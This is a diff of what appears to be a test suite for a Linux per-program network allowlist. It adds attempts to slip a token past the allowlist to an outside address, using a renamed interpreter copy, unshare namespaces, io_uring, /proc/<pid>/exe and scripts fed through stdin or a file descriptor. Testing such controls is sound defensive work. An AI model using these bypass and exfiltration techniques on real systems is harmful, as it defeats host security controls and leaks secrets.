@@ -77,12 +77,12 @@ def drafts(name):
     return prepare
 
 
-def drafts_by(name, *words):
+def drafts_by(name, *words, deed="typed_lines"):
     """The same by other ways into it; what is copied is one's own interpreter, under a name that no list knows."""
     def prepare(s):
         s.run(s.alice, ["cp", "/usr/bin/python3", f"{s.alice.home}/anything"])
         command = [word.format(home=s.alice.home, here=s.here) for word in words]
-        s.kept[name] = s.speaker(s.alice, [*command, "typed_lines", "social.example"])
+        s.kept[name] = s.speaker(s.alice, [*command, deed, "social.example"])
     return prepare
 
 
@@ -126,6 +126,25 @@ def asks_openssl(s, token):
     s.run(s.alice, ["sh", "-c", f"printf '{body}' | openssl s_client -quiet -connect x.com:443 -servername x.com"])
 
 
+def one_that_runs(s):
+    """A listed program that runs and waits for ever."""
+    s.kept["runs"] = s.speaker(s.alice, ["/bin/sh", "-c", f"echo ready; exec {POSTER} -s telnet://127.0.0.1:3129"])
+
+
+def by_one_that_runs(s, token):
+    runs(f"/proc/{s.kept['runs'].pid}/exe")(s, token)
+
+
+def trick(*words):
+    """A program of socket_tricks with curl's words."""
+    def attempt(s, token):
+        s.run(s.alice, ["/usr/bin/python3", f"{s.here}/socket_tricks.py", *words, *SHORT, "-d", token, OUTSIDE])
+    return attempt
+
+
+READS_IT = f"import runpy, sys; sys.argv[0] = 'toot'; runpy.run_path('{TOOT}', run_name='__main__')"
+IMPORTS_IT = "import toot.console; toot.console.main()"
+
 STARTED = [
     Row("a listed program", runs(POSTER), PROGRAMS),
     Row("a link to it", runs("{home}/alias"), PROGRAMS, prepare=links),
@@ -148,6 +167,14 @@ STARTED = [
     Row("a copy that was made before", runs("{home}/mine"), ANY, NOT_STOPPED, listed="opies of a listed program",
         prepare=copies_before),
     Row("a copy that was made before, to a listed address", runs("{home}/mine", url=INSIDE), NETWORK, prepare=copies_before),
+    Row("a process namespace of one's own", runs("unshare", "-Urpf", "--mount-proc", POSTER), PROGRAMS),
+    Row("a handle of it that opens nothing", lambda s, token: s.run(s.alice, [
+        "/usr/bin/python3", f"{s.here}/helpers.py", "by_handle", POSTER, *SHORT, "-d", token, OUTSIDE]), PROGRAMS),
+    Row("the kernel's own threads open it (io_uring)", trick("opened", POSTER), PROGRAMS),
+    Row("the file of one that runs, through /proc", by_one_that_runs, PROGRAMS, prepare=one_that_runs),
+    Row("a script by standard input", toot("/bin/sh", "-c", f'exec /usr/bin/python3 - "$@" < {TOOT}', "sh"), PROGRAMS),
+    Row("a script that another one reads", toot("/usr/bin/python3", "-c", READS_IT), PROGRAMS),
+    Row("a script's package, without the script", toot("/usr/bin/python3", "-c", IMPORTS_IT), PROGRAMS),
     Row("the exempt officer's program", runs(POSTER, who="officer"), ANY, OPEN),
 ]
 RUNNING_ROWS = [
@@ -163,6 +190,11 @@ RUNNING_ROWS = [
         prepare=drafts_by("renamed", "{home}/anything", DRAFTER)),
     Row("a running script that came by an open file", speaks("by fd"), PROGRAMS, keeps=True,
         prepare=drafts_by("by fd", "/bin/sh", "-c", 'exec "$0" /dev/fd/3 "$@" 3< ' + DRAFTER, "{home}/anything")),
+    Row("a running tool whose first thread has ended", speaks("leaderless"), PROGRAMS, keeps=True, prepare=drafts_by("leaderless", DRAFTER, deed="leaderless")),
+    Row("a running tool in a process namespace of its user's own", speaks("own processes"), PROGRAMS, keeps=True,
+        prepare=drafts_by("own processes", "unshare", "-Urpf", "--mount-proc", DRAFTER)),
+    Row("a listed file that was on its way between two programs", speaks("mailed"), ANY, NOT_STOPPED, listed="handed a listed file",
+        prepare=keeps("mailed", "mailed", POSTER.encode().hex(), *SHORT, "-d", "TOKEN", OUTSIDE)),
     Row("what once looked into a listed program", speaks("looked"), ANY, OPEN,
         prepare=drafts_by("looked", "/usr/bin/python3", "{here}/helpers.py", "looked", OWNED)),
 ]
